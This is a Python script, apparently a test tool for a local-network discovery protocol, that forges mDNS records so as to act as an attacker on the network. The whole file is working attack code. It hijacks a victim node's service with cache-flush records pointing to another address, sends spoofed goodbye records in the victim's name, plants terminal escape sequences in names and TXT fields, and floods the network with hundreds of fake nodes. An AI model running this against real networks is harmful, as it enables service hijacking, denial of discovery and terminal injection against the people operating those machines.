"""Says what an attacker on the network would say, as raw records, and goes.

    impostor.py OWN_ADDRESS VICTIM_ID [HOW_MANY_NODES]
    impostor.py OWN_ADDRESS VICTIM_ID takeover ADDRESS
    impostor.py OWN_ADDRESS VICTIM_ID goodbye

The victim's service with another address, replacing what is known (cache-flush); a goodbye in the
victim's name; names and texts that are made to reach a terminal; more nodes than can be listed. Or one
of the first two alone.
"""

import socket
import struct
import sys
import time

GROUP, PORT = "224.0.0.251", 5353
SERVICE = ["_fleet", "_tcp", "local"]
PTR, TXT, A, SRV = 12, 16, 1, 33
IN, FLUSH = 1, 0x8001
LETTERS = "abcdefghijklmnopqrstuvwxyz234567"


def name(*labels: str) -> bytes:
    raw = [label.encode("latin-1") for label in labels]
    return b"".join(bytes([len(label)]) + label for label in raw) + b"\0"


def record(owner: bytes, kind: int, klass: int, ttl: int, data: bytes) -> bytes:
    return owner + struct.pack("!HHIH", kind, klass, ttl, len(data)) + data


def packet(records: list[bytes]) -> bytes:
    return struct.pack("!6H", 0, 0x8400, 0, len(records), 0, 0) + b"".join(records)


def service(label: str, text: list[bytes], address: str, port: int, ttl: int = 4500) -> bytes:
    instance, server = name(label, *SERVICE), name(label + "-host", "local")
    return packet(
        [
            record(name(*SERVICE), PTR, IN, ttl, instance),
            record(instance, SRV, FLUSH, ttl, struct.pack("!HHH", 0, 0, port) + server),
            record(instance, TXT, FLUSH, ttl, b"".join(bytes([len(t)]) + t for t in text)),
            record(server, A, FLUSH, ttl, socket.inet_aton(address)),
        ]
    )


def text(node_id: str) -> list[bytes]:
    return [b"v=1", b"id=" + node_id.encode(), b"h=" + b"a" * 16]


def takeover(victim: str, address: str) -> bytes:
    return service(victim[:12], text(victim), address, 7717)


def goodbye(victim: str) -> bytes:
    return packet([record(name(*SERVICE), PTR, IN, 0, name(victim[:12], *SERVICE))])


def all_of_it(own: str, victim: str, nodes: int) -> list[bytes]:
    evil = "\x1b]0;owned\x07\n\x1b[2J"
    said = [
        service(evil, text("z" * 52), own, 7717),
        service("z" * 12, [b"v=1", b"id=" + evil.encode() + b"z" * 40, b"h=\x1b[31m"], own, 7717),
        service("y" * 12, text("y" * 52), "8.8.8.8", 7717),
        service("x" * 12, text("x" * 52), own, 22),
        service("w" * 12, [b"\xff" * 200], own, 7717),
    ]
    for number in range(nodes):
        label = "q" + "".join(LETTERS[(number >> shift) & 31] for shift in (10, 5, 0)) * 4
        said.append(service(label[:12], text((label * 4)[:52].ljust(52, "q")), own, 7717))
    return [*said, takeover(victim, own), goodbye(victim)]


def main() -> None:
    own, victim, *what = sys.argv[1:]
    match what:
        case ["takeover", address]:
            said = [takeover(victim, address)]
        case ["goodbye"]:
            said = [goodbye(victim)]
        case _:
            said = all_of_it(own, victim, int(what[0]) if what else 400)
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(own))
    is_many = len(said) > 1_000
    for number, datagram in enumerate(said):
        out.sendto(datagram, (GROUP, PORT))
        if not is_many:
            time.sleep(0.002)  # slower than a socket's buffer fills: all of it is to be heard
        elif number % 10 == 0:
            time.sleep(0.001)


main()
